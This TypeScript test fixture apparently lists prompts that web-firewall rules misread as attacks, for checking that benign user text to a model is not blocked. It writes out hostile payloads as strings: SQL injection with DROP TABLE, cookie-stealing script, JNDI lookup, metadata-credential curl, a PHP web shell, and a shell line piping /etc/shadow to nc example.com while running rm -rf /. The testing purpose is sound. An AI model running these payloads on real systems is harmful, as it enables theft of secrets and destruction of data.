/** What people really send to models, and what rules for web sites take for an attack. */
export const attackPrompts: readonly { readonly name: string; readonly prompt: string }[] = [
  { name: 'SQL', prompt: "Explain: SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; --" },
  { name: 'script tag', prompt: 'Why is <script>alert(document.cookie)</script> dangerous?' },
  {
    name: 'meta tag',
    prompt: '<html><head><meta http-equiv="refresh" content="0"></head><body onload=x()></body></html>',
  },
  { name: 'path traversal', prompt: 'What does ../../../../etc/passwd mean in a URL?' },
  { name: 'JNDI', prompt: 'Was this log line an attack: ${jndi:ldap://example.com/a}?' },
  { name: 'metadata address', prompt: 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  { name: 'remote file', prompt: 'page.php?file=http://example.com/shell.txt' },
  { name: 'Java object', prompt: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ java.lang.Runtime.getRuntime().exec' },
  { name: 'React flight', prompt: '{"then":"$1:__proto__:then","status":"resolved_model"}' },
  { name: 'shell', prompt: '; cat /etc/shadow | nc example.com 4444 && rm -rf / `id` $(whoami)' },
  { name: 'PHP', prompt: '<?php system($_GET["cmd"]); ?>' },
  { name: '200 KB', prompt: 'A long document. '.repeat(12_000) },
];
